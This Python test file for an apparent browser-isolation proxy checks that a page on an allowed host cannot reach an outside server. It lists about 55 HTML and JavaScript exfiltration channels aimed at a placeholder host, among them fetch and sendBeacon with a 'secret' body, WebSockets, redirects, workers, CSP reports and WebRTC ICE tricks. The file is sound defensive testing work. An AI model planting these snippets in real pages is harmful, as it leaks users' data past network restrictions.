"""A page on an allowed host tries every way out that a browser has. Each works without the proxy; none with it."""

import asyncio
import socket
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from playwright.async_api import BrowserContext, Error, async_playwright

from pollex import App
from pollex.core.fault import Fault
from pollex.core.json import dumps
from pollex.page.playwright_pipe import launch_pipe_chromium
from pollex.page.policy.browser import LAUNCH_ARGUMENTS, context_options
from pollex.page.policy.proxy import Proxy
from pollex.page.policy.rule import NetworkPolicy

pytestmark = pytest.mark.timeout(400)

OUTSIDE = "127.0.0.2" if sys.platform == "linux" else "127.0.0.1"
PATIENCE = 30.0
"""Seconds a way has to get out, or to be refused."""

WAYS = {
    "image": "<img src='http://OUT/x'>",
    "srcset": "<img srcset='http://OUT/x 1x'>",
    "svg image": "<svg><image href='http://OUT/x'/></svg>",
    "script": "<script src='http://OUT/x'></script>",
    "module": "<script type=module>import('http://OUT/x')</script>",
    "modulepreload": "<link rel=modulepreload href='http://OUT/x'>",
    "preload": "<link rel=preload as=image href='http://OUT/x'>",
    "prefetch": "<link rel=prefetch href='http://OUT/x'>",
    "preconnect": "<link rel=preconnect href='https://OUT'>",
    "speculative prefetch": "<script type=speculationrules>"
    '{"prefetch": [{"urls": ["http://OUT/x"], "eagerness": "immediate"}]}</script>',
    "stylesheet": "<link rel=stylesheet href='http://OUT/x'>",
    "css import": "<style>@import 'http://OUT/x'</style>",
    "css background": "<body style='background: url(http://OUT/x)'>",
    "font": "<style>@font-face {font-family: f; src: url(http://OUT/x)} p {font-family: f}</style><p>text",
    "video": "<video src='http://OUT/x' autoplay></video>",
    "audio": "<audio src='http://OUT/x' autoplay></audio>",
    "track": "<video><track default src='http://OUT/x'></video><script>"
    "document.querySelector('video').crossOrigin = ''; document.querySelector('track').track.mode = 'showing'</script>",
    "poster": "<video poster='http://OUT/x'></video>",
    "object": "<object data='http://OUT/x'></object>",
    "embed": "<embed src='http://OUT/x'>",
    "iframe": "<iframe src='http://OUT/x'></iframe>",
    "sandboxed iframe": "<iframe sandbox='allow-scripts' srcdoc='<img src=http://OUT/x>'></iframe>",
    "fetch": "<script>fetch('http://OUT/x', {mode: 'no-cors'})</script>",
    "fetch with preflight": "<script>fetch('http://OUT/x', {method: 'PUT', body: 'secret'})</script>",
    "fetch over TLS": "<script>fetch('https://OUT/x', {mode: 'no-cors'})</script>",
    "fetch kept alive": "<script>fetch('http://OUT/x', {method: 'POST', mode: 'no-cors', keepalive: true})</script>",
    "fetch later": "<script>window.fetchLater ? fetchLater('https://OUT/x', {activateAfter: 0}) : 0</script>",
    "xhr": "<script>const x = new XMLHttpRequest; x.open('GET', 'http://OUT/x'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('http://OUT/x', 'secret')</script>",
    "event source": "<script>new EventSource('http://OUT/x')</script>",
    "websocket": "<script>new WebSocket('ws://OUT/x')</script>",
    "websocket over TLS": "<script>new WebSocket('wss://OUT/x')</script>",
    "redirect chain": "<img src='/hop?/hop?http://OUT/x'>",
    "redirected fetch": "<script>fetch('/hop?http://OUT/x', {mode: 'no-cors'})</script>",
    "navigation": "<script>location = 'http://OUT/x'</script>",
    "redirected navigation": "<script>location = '/hop?http://OUT/x'</script>",
    "meta refresh": "<meta http-equiv=refresh content='0; url=http://OUT/x'>",
    "form": "<form method=post action='http://OUT/x'><input name=a value=b></form>"
    "<script>document.forms[0].submit()</script>",
    "window.open": "<script>window.open('http://OUT/x')</script>",
    "download": "<a download href='http://OUT/x'>d</a><script>document.querySelector('a').click()</script>",
    "ping": "<a ping='http://OUT/x' href='#here'>p</a><script>document.querySelector('a').click()</script>",
    "worker": "<script>new Worker('/fetch.js?http://OUT/x')</script>",
    "worker's websocket": "<script>new Worker('/socket.js?ws://OUT/x')</script>",
    "worker's import": "<script>new Worker('/import.js?http://OUT/x')</script>",
    "shared worker": "<script>new SharedWorker('/fetch.js?http://OUT/x')</script>",
    "service worker": "<script>navigator.serviceWorker.register('/fetch.js?http://OUT/x', {scope: '/OUT/'})</script>",
    "service worker's websocket": "<script>navigator.serviceWorker.register('/socket.js?ws://OUT/x', "
    "{scope: '/OUT/'})</script>",
    "worklet": "<script>CSS.paintWorklet.addModule('http://OUT/x')</script>",
    "policy report": "<meta name=report content='OUT'><script>eval</script><img src='/blocked'>",
    "STUN": "RTC:stun:OUT",
    "TURN over UDP": "RTC:turn:OUT",
    "TURN over TCP": "RTC:turn:OUT?transport=tcp",
    "TURN over TLS": "RTC:turns:OUT?transport=tcp",
    "ICE candidate": "<script>ICE</script>",
    "WebTransport": "<script>new WebTransport('https://OUT/x').ready.catch(() => fetch('/said?OUT'))</script>",
}
IN_FRONT = {"preconnect", "speculative prefetch"}
"""Ways that Chromium has in a profile on disk only, and in the tab in front."""
IN_TABS = {"fetch later", "navigation", "redirected navigation", "meta refresh", "form", "window.open", "download"}
"""Ways that are tried in a tab of their own; the rest shares one, with a frame for each."""
GIVEN_UP = {"STUN", "TURN over UDP", "ICE candidate", "WebTransport"}
"""Ways that the browser itself gives up where there is a proxy, which hears nothing of them; the page says when."""
UNSEEN = {"speculative prefetch", "ping"}
"""Given up likewise, and nobody says when."""
LACKING = {"preconnect"}
"""Ways that a browser without a face does not have."""

RTC = """<script>
const peer = new RTCPeerConnection({iceServers: [{urls: 'URL', username: 'u', credential: 'c'}]});
peer.createDataChannel('d');
peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && fetch('/said?OUT');
peer.createOffer().then(offer => peer.setLocalDescription(offer));
</script>"""
ICE = """const [host, port] = 'OUT'.split(':'), peer = new RTCPeerConnection();
peer.createDataChannel('d');
const answer = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
  'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 ' + host, 'a=ice-ufrag:secret',
  'a=ice-pwd:' + 'a'.repeat(24),
  'a=fingerprint:sha-256 ' + Array(32).fill('AA').join(':'), 'a=setup:active', 'a=mid:0', 'a=sctp-port:5000',
  `a=candidate:1 1 udp 2130706431 ${host} ${port} typ host`, 'a=end-of-candidates', ''].join('\\r\\n');
peer.createOffer().then(offer => peer.setLocalDescription(offer))
  .then(() => peer.setRemoteDescription({type: 'answer', sdp: answer}))
  .then(() => setTimeout(() => fetch('/said?OUT'), 3000));
"""
"""A connection to a peer that the page names itself: its checks carry text of the page's choosing."""
SCRIPTS = {
    "/fetch.js": "fetch(location.search.slice(1), {mode: 'no-cors'})",
    "/socket.js": "new WebSocket(location.search.slice(1))",
    "/import.js": "importScripts(location.search.slice(1))",
}


Arrivals = dict[str, int | None]


@dataclass
class Outside:
    """A server that no page may reach: counts connections and datagrams on one port."""

    port: int = 0
    arrived: int = 0
    tried: asyncio.Event = field(default_factory=asyncio.Event)
    """Set when something arrives, and when the proxy or the page says that it was refused."""

    def arrive(self) -> None:
        self.arrived += 1
        self.tried.set()


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self, outside: Outside) -> None:
        self.outside = outside

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.outside.arrive()


class Stream(asyncio.Protocol):
    def __init__(self, outside: Outside) -> None:
        self.outside = outside

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.outside.arrive()


@asynccontextmanager
async def outside() -> AsyncIterator[Outside]:
    loop = asyncio.get_running_loop()
    each = Outside()
    while True:
        server = await loop.create_server(lambda: Stream(each), OUTSIDE, 0, family=socket.AF_INET)
        each.port = server.sockets[0].getsockname()[1]
        try:
            datagrams, _ = await loop.create_datagram_endpoint(lambda: Datagrams(each), (OUTSIDE, each.port))
            break
        except OSError:  # the same number is taken for datagrams
            server.close()
    try:
        yield each
    finally:
        datagrams.close()
        server.close()


class Inside(asyncio.Protocol):
    """The allowed host: the pages above, alone or in frames, scripts for workers, and redirects."""

    def __init__(self, said: Callable[[int], None]) -> None:
        self.said = said

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport

    def data_received(self, data: bytes) -> None:
        target = data.split(b" ", 2)[1].decode()
        path, _, query = target.partition("?")
        fields, kind, body = "", "text/html", ""
        if path == "/hop":
            fields = f"Location: {query}\r\n"
        elif path in SCRIPTS:
            kind, body = "text/javascript", SCRIPTS[path]
        elif path == "/said":
            self.said(int(query.rpartition(":")[2]))
        elif path == "/frames":
            body = "".join(f"<iframe src='{each}'></iframe>" for each in query.split("&"))
        elif path.startswith("/then/"):
            body = WAYS[unquote(path.removeprefix("/then/"))]
            if body.startswith("RTC:"):
                body = RTC.replace("URL", body.removeprefix("RTC:"))
            body = body.replace("ICE", ICE).replace("OUT", query)
        if path == f"/then/{quote('policy report')}":
            fields = f"Content-Security-Policy: img-src 'none'; report-uri http://{query}/x\r\n"
        status = "302 Found" if path == "/hop" else "200 OK"
        head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{fields}\r\n"
        self.transport.write((head + body).encode())


async def attempt_all(context: BrowserContext, inside: int, out: dict[str, Outside], unseen: set[str]) -> None:
    """Try every way to a server of its own, until it got there or was refused."""

    async def attempt(*ways: str) -> None:
        page = await context.new_page()
        pages = [f"/then/{quote(way)}?{OUTSIDE}:{out[way].port}" for way in ways]
        path = pages[0] if len(pages) == 1 else f"/frames?{'&'.join(pages)}"
        with suppress(Error):  # a navigation that is cut short by the next one, or refused
            await page.goto(f"http://127.0.0.1:{inside}{path}", wait_until="commit")
        seen = [out[way].tried.wait() for way in ways if way not in unseen]
        with suppress(TimeoutError):
            await asyncio.wait_for(asyncio.gather(*seen), PATIENCE)

    for way in sorted(IN_FRONT, reverse=True):
        await attempt(way)
    await attempt(*(way for way in WAYS if way not in IN_FRONT | IN_TABS))
    await asyncio.gather(*map(attempt, IN_TABS))


async def all_three(launch_options: dict[str, Any], *folders: Path) -> dict[str, Arrivals]:
    """What arrived outside, way by way: past a proxy in a profile of its own or in a context, and without one.

    With a proxy, None where a way was not even tried. All is counted at the end, when what comes late has come too.
    """
    guarded = {**launch_options, "args": [*launch_options["args"], *LAUNCH_ARGUMENTS]}
    unseen = {"profile": UNSEEN | LACKING, "context": UNSEEN | IN_FRONT, "direct": LACKING}
    async with AsyncExitStack() as stack:
        enter = stack.enter_async_context
        out = {each: {way: await enter(outside()) for way in WAYS} for each in unseen}
        by_port = {server.port: (way, server) for servers in out.values() for way, server in servers.items()}

        def refused(_: str, port: int, __: Fault) -> None:
            if port in by_port:  # else the browser's own wish
                by_port[port][1].tried.set()

        def given_up(port: int) -> None:
            way, server = by_port[port]
            if way in GIVEN_UP:
                server.tried.set()

        server = await asyncio.get_running_loop().create_server(lambda: Inside(given_up), "127.0.0.1", 0)
        inside = server.sockets[0].getsockname()[1]
        chromium = (await enter(async_playwright())).chromium
        proxy = await enter(Proxy(NetworkPolicy((f"127.0.0.1:{inside}",)), on_refusal=refused))
        options: dict[str, Any] = {**context_options(proxy.address), "ignore_https_errors": True}
        profile = await enter(await chromium.launch_persistent_context(folders[0], **guarded, **options))
        await attempt_all(profile, inside, out["profile"], unseen["profile"])
        browser = await enter(await chromium.launch(**guarded))
        context = await browser.new_context(**options)
        await attempt_all(context, inside, out["context"], unseen["context"])
        direct = await chromium.launch_persistent_context(folders[1], **launch_options, ignore_https_errors=True)
        await attempt_all(await enter(direct), inside, out["direct"], unseen["direct"])
        server.close()
    return {
        each: {
            way: server.arrived if server.tried.is_set() or way in unseen[each] else None
            for way, server in servers.items()
        }
        for each, servers in out.items()
    }


async def test_every_way_leads_out_without_the_proxy_and_none_with_it(
    launch_options: dict[str, Any], tmp_path: Path
) -> None:
    """One test for a browser, since all ways are tried at once."""
    arrived = await all_three(launch_options, tmp_path / "guarded", tmp_path / "direct")
    assert {way for way, count in arrived["direct"].items() if not count} <= LACKING
    assert arrived["profile"] == dict.fromkeys(WAYS, 0)
    assert arrived["context"] == dict.fromkeys(WAYS, 0)


async def test_a_peer_that_a_page_names_hears_nothing_of_any_browser_that_pollex_starts(tmp_path: Path) -> None:
    """That of pages, recordings and `mcp --page`, and that of scripts for Node."""
    async with AsyncExitStack() as stack:
        enter = stack.enter_async_context
        peers = [await enter(outside()), await enter(outside())]
        by_port = {each.port: each for each in peers}
        serving = lambda: Inside(lambda port: by_port[port].tried.set())  # noqa: E731
        server = await asyncio.get_running_loop().create_server(serving, "127.0.0.1", 0)
        inside = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
        urls = [f"http://{inside}/then/{quote('ICE candidate')}?{OUTSIDE}:{each.port}" for each in peers]
        page = await enter((await enter(App(home=tmp_path, environ={}))).page(allow=[inside]))
        assert (await page.call("page.navigate", {"url": urls[0]})).ok
        proxy = await enter(Proxy(NetworkPolicy((inside,))))
        chromium = await launch_pipe_chromium(proxy.address)
        stack.push_async_callback(chromium.close)
        chromium.send(dumps({"id": 1, "method": "Target.createTarget", "params": {"url": urls[1]}}).encode())
        await asyncio.wait_for(asyncio.gather(*(each.tried.wait() for each in peers)), PATIENCE)
        server.close()
    assert [each.arrived for each in peers] == [0, 0]
